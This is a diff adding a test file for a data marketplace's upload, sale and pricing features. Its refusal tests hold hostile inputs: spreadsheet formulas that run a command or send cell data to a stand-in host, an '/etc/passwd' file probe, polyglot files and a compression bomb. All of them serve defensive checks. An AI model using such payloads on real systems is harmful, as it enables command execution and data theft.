@@ -1,0 +1,250 @@
+import { gzipSync } from 'node:zlib';
+import { zipSync } from 'fflate';
+import { describe, expect, it, vi } from 'vitest';
+import type { Sample, Stream } from '#contract/types.ts';
+import { sweepFiles } from '#server/uploads/sweepFiles.ts';
+import { openTestExchange } from '#tests/support/exchange.ts';
+import { forFile } from '#tests/support/forFile.ts';
+import { added, csv, stored, upload, uploadCut } from './fixture.ts';
+
+const server = await forFile(openTestExchange({ env: { UPLOAD_LIMIT: '4' } }));
+await server.app.listen({ host: '127.0.0.1', port: 0 });
+const seller = await server.join('user');
+const rival = await server.join('user');
+const category = await server.addCategory();
+const product = (url: string, more: object = {}) => ({
+  name: 'Levels',
+  type: 'Dataset',
+  description: 'By a test',
+  price: 0,
+  subcategory: category,
+  url,
+  ...more,
+});
+const files = () => server.db.selectFrom('files').selectAll().orderBy('id').execute();
+const listed = async (bytes: string, more: object = {}) => {
+  const { id } = await added(server, bytes, seller);
+  return { file: id, id: await seller.list(product(`file:${id}`, more)) };
+};
+const buy = async (streamId: string) => {
+  const buyer = await server.join('user');
+  const reply = await buyer.call('POST', '/subscriptions/subscriptions', { stream_id: streamId, hours: 2 });
+  return { ...buyer, address: new URL(reply.json<{ stream_url: string }>().stream_url) };
+};
+const read = (url: URL, headers: Record<string, string> = {}) =>
+  server.app.inject({ url: url.pathname + url.search, headers });
+
+describe('an uploaded file', () => {
+  it('is measured by the reply and sold like an address', async () => {
+    const file = await added(server, csv, { ...seller, name: 'Levels 2024.csv' });
+    expect(file).toMatchObject({ name: 'Levels 2024.csv', bytes: csv.length });
+    expect(file.sample.schema.map(({ name }) => name)).toEqual(['day', 'station', 'level']);
+    const id = await seller.list(product(`file:${file.id}`));
+    const sample = await seller.call('GET', `/streams/streams/${id}/sample`);
+    expect(sample.json<Sample>()).toMatchObject({ rows_measured: 40, measured_at: file.sample.measured_at });
+    const { address } = await buy(id);
+    const raw = await read(address);
+    expect([raw.statusCode, raw.headers['content-type'], raw.body]).toEqual([200, 'text/csv', csv]);
+    const part = await read(address, { range: 'bytes=4-10' });
+    expect([part.statusCode, part.body, part.headers['content-range']]).toEqual([
+      206,
+      csv.slice(4, 11),
+      `bytes 4-10/${csv.length}`,
+    ]);
+    const unchanged = await read(address, { 'if-none-match': String(raw.headers['etag']) });
+    expect(unchanged.statusCode).toBe(304);
+    const parquet = await read(address, { accept: 'application/vnd.apache.parquet' });
+    expect([parquet.statusCode, parquet.rawPayload.toString('latin1', 0, 4)]).toEqual([200, 'PAR1']);
+  });
+
+  it('keeps its address from every answer', async () => {
+    const { id, file } = await listed(csv);
+    const buyer = await buy(id);
+    const answers = await Promise.all([
+      seller.call('GET', `/streams/streams/${id}`),
+      seller.call('GET', `/streams/streams?owner=${seller.id}`),
+      seller.call('GET', `/streams/streams/${id}/sample`),
+      seller.call('GET', `/streams/streams/${id}/history`),
+      seller.call('GET', '/streams/export-owned'),
+      buyer.call('GET', `/streams/streams/${id}`),
+      read(buyer.address),
+      server.app.inject({ url: `/catalogue.jsonld?stream=${id}` }),
+      server.app.inject({ url: `/product/${id}` }),
+    ]);
+    for (const { body, headers } of answers) expect(body + JSON.stringify(headers)).not.toContain(file);
+    const data = await seller.call('GET', `/auth/users/${seller.id}/export`);
+    expect(data.body).not.toContain(`file:${file}`);
+    expect(answers[0]?.json<Stream>().file).toMatchObject({ name: 'levels.csv', bytes: csv.length });
+    expect(answers[0]?.json<Stream>().url).toBeUndefined();
+    expect(buyer.id && answers[5]?.json<Stream>().file).toBeUndefined();
+  });
+
+  it('belongs to its owner and to one product', async () => {
+    const { id: file } = await added(server, csv, seller);
+    const url = `file:${file}`;
+    expect((await rival.call('POST', '/streams/streams', product(url))).json()).toMatchObject({
+      fields: { url: 'is no file of yours: upload it again' },
+    });
+    expect((await rival.call('POST', '/streams/probe', { url })).statusCode).toBe(400);
+    const own = await rival.list(product('https://data.example.org/rival'));
+    expect((await rival.call('PUT', `/streams/streams/${own}`, { url })).statusCode).toBe(400);
+    await seller.list(product(url));
+    expect((await seller.call('POST', '/streams/streams', product(url))).statusCode).toBe(409);
+    expect((await seller.call('POST', '/streams/probe', { url: 'file:///etc/passwd' })).statusCode).toBe(400);
+  });
+
+  it('is replaced at one moment, while a reader of the earlier version reads on', async () => {
+    const { id, file } = await listed(csv);
+    const { address } = await buy(id);
+    const reading = await server.exchange.upstream.open(`file:${file}`);
+    const next = 'day,station,level\n2025-01-01,S9,9.9\n2025-01-02,S9,9.8\n';
+    const { id: newer } = await added(server, next, seller);
+    expect((await seller.call('PUT', `/streams/streams/${id}`, { url: `file:${newer}` })).statusCode).toBe(200);
+    expect((await read(address)).body).toBe(next);
+    const sample = (await seller.call('GET', `/streams/streams/${id}/sample`)).json<Sample>();
+    expect(sample.rows_measured).toBe(2);
+    await server.db
+      .updateTable('files')
+      .set({ replaced_at: '2020-01-01T00:00:00.000Z' })
+      .where('id', '=', file)
+      .execute();
+    await sweepFiles(server.exchange);
+    expect(stored(server)).not.toContain(file);
+    expect(stored(server)).toContain(newer);
+    expect(Buffer.concat(await reading.body.toArray()).toString()).toBe(csv);
+    expect((await read(address)).body).toBe(next);
+  });
+});
+
+describe('an upload that is cut off', () => {
+  const long = Buffer.from(csv + '2024-02-01,S1,1.0\n'.repeat(20_000));
+  it.each([0, 1, 5_000, 70_000, long.length - 1])('leaves nothing after %i bytes', async (cutAt) => {
+    const before = [stored(server), await files()];
+    await uploadCut(server, long, cutAt, seller.token);
+    await vi.waitFor(async () => expect([stored(server), await files()]).toEqual(before), { timeout: 10_000 });
+  });
+
+  it('is removed by the next start after a crash', async () => {
+    const { id } = await added(server, csv, seller);
+    await server.db.updateTable('files').set({ sample: null }).where('id', '=', id).execute();
+    await sweepFiles(server.exchange);
+    expect(stored(server)).toContain(id);
+    await sweepFiles(server.exchange, { isAlone: true });
+    expect(stored(server)).not.toContain(id);
+    expect((await files()).map((file) => file.id)).not.toContain(id);
+  });
+
+  it('leaves the five newest files that are not listed', async () => {
+    const other = await server.join('user');
+    const ids: string[] = [];
+    for (let at = 0; at < 7; at += 1) ids.push((await added(server, `a,b\n${at},2\n3,4\n`, other)).id);
+    expect((await files()).filter((file) => file.owner_id === other.id).map(({ id }) => id)).toEqual(ids.slice(2));
+  });
+});
+
+const wide = `${Array.from({ length: 10_000 }, (_, at) => `c${at}`).join(',')}\n${'1,'.repeat(9_999)}1\n`;
+const sheet =
+  '<?xml version="1.0"?><worksheet><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData></worksheet>';
+const bomb = gzipSync(Buffer.concat([Buffer.from('a,b\n'), Buffer.alloc(3_000_000, '1,2\n')]));
+const zip = Buffer.from(zipSync({ 'a.csv': Buffer.from(csv) }));
+
+const refused: [string, () => Buffer | string, number, RegExp][] = [
+  ['nothing', () => '', 422, /empty/u],
+  ['more than the limit', () => Buffer.alloc(4 * 2 ** 20 + 1, 'a,b\n'), 413, /larger than 4 MB/u],
+  ['10,000 columns', () => wide, 422, /10000 columns; at most 2000/u],
+  ['a web page', () => '<!doctype html><table><tr><td>1</table>', 422, /web page/u],
+  ['a PDF document', () => '%PDF-1.7\n1 0 obj', 422, /PDF/u],
+  ['a picture', () => Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000', 'hex'), 422, /not text/u],
+  ['a program', () => Buffer.concat([Buffer.from('\u007FELF'), Buffer.alloc(4096)]), 422, /not text/u],
+  ['a table that is also a zip archive', () => Buffer.concat([Buffer.from(csv), zip]), 422, /also a zip archive/u],
+  ['a table that is also a PDF', () => `a,b\n1,%PDF-1.4\n`, 422, /also a PDF/u],
+  [
+    'an archive with a second one',
+    () => Buffer.concat([zip, Buffer.from('<script>1</script>')]),
+    422,
+    /behind the end/u,
+  ],
+  [
+    'two files in an archive',
+    () => Buffer.from(zipSync({ 'a.csv': Buffer.from('a\n1\n'), 'b.csv': Buffer.from('a\n1\n') })),
+    422,
+    /more than one file/u,
+  ],
+  [
+    'a broken workbook',
+    () => Buffer.from(zipSync({ 'xl/worksheets/sheet1.xml': Buffer.from(sheet) })).subarray(0, 90),
+    422,
+    /archive|workbook/u,
+  ],
+  ['a command of a spreadsheet', () => `a,b\n1,=cmd|' /C calc'!A0\n`, 422, /spreadsheet formula/u],
+  [
+    'a formula that calls an address',
+    () => `a,b\n1,"=HYPERLINK(""https://evil.example/""&A1)"\n`,
+    422,
+    /spreadsheet formula/u,
+  ],
+  [
+    'a packed formula',
+    () => gzipSync(`a,b\n1,"=WEBSERVICE(""https://evil.example/"")"\n2,3\n`),
+    422,
+    /spreadsheet formula/u,
+  ],
+];
+
+describe('a file that is refused with a reason', () => {
+  it.each(refused)('is one with %s', async (_name, bytes, status, reason) => {
+    const before = [stored(server), await files()];
+    const reply = await upload(server, bytes(), seller);
+    expect([reply.statusCode, reply.json<{ error: string }>().error]).toEqual([status, expect.stringMatching(reason)]);
+    expect([stored(server), await files()]).toEqual(before);
+  });
+
+  it('is no packed table of usual size', async () => {
+    expect((await upload(server, bomb, seller)).statusCode).toBe(201);
+  });
+
+  it('has no declared length', async () => {
+    const reply = await server.app.inject({
+      method: 'POST',
+      url: '/streams/files?name=a',
+      headers: { authorization: seller.token },
+    });
+    expect(reply.statusCode).toBe(411);
+  });
+});
+
+describe('a price for data that is not listed yet', () => {
+  const ask = async (columns: string[], subcategory: string) =>
+    (await rival.call('POST', '/streams/prices', { subcategory, columns })).json<object>();
+
+  it('is the range that similar products sold for', async () => {
+    const group = await server.addCategory('Prices');
+    const at = server.exchange.now().toISOString();
+    for (const [index, price] of [10, 20, 30, 40, 900].entries()) {
+      const id = await seller.list({ subcategory: group, price });
+      const names = price === 900 ? 'other\nthings' : 'Day\nstation_id\nlevel';
+      await server.db.updateTable('streams').set({ buyers: 1, column_names: names }).where('id', '=', id).execute();
+      const sale = { id: crypto.randomUUID(), stream_id: id, user_id: rival.id, seller_id: seller.id, hours: 1 };
+      const values = {
+        ...sale,
+        start_at: at,
+        end_at: `2030-01-0${index + 1}T00:00:00.000Z`,
+        price,
+        total: price,
+        offer_id: null,
+        key_hash: null,
+        created_at: at,
+      };
+      await server.db.insertInto('subscriptions').values(values).execute();
+    }
+    expect(await ask(['day', 'Station ID', 'level', 'note'], group)).toEqual({
+      products: 4,
+      similar: true,
+      low: 20,
+      middle: 30,
+      high: 30,
+    });
+    expect(await ask(['x'], group)).toMatchObject({ products: 5, similar: false, middle: 30 });
+    expect(await ask(['x'], category)).toEqual({ products: 0, similar: false });
+  });
+});
